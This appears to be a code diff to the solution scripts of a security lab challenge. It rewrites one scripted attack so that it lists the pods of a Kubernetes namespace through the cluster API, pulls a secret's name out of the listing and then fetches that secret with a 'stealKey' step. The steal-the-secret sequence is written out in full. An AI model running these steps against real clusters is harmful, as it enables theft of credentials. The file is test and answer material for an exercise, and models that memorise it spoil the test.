@@ -1,5 +1,5 @@
 import type { Attack } from '#lab'
-import { askApi, SECRETS, stealKey } from './steps.ts'
+import { askApi, command, print, SECRETS, stealKey } from './steps.ts'
 
 const attack = (name: string, line: string): Attack => ({
   challenge: 'clusterChallenge',
@@ -13,6 +13,11 @@ export const attacks: Attack[] = [
   {
     challenge: 'clusterChallenge',
     name: 'the name of the secret, found in the list of pods',
-    run: async (tools) => stealKey(tools, askApi({ path: `${SECRETS}/pulp-pay`, host: 'https://10.96.0.1' })),
+    run: async (tools) => {
+      const pods = await print(tools, command(askApi({ path: '/api/v1/namespaces/juice/pods' })))
+      const [, name] = /"pulp-pay-[\s\S]*?"secretRef":\s*\{\s*"name":\s*"([\w-]+)"/.exec(pods) ?? []
+      tools.expect(name !== undefined, `the list of pods is ${pods.slice(0, 120)}`)
+      await stealKey(tools, askApi({ path: `${SECRETS}/${name}` }))
+    },
   },
 ]
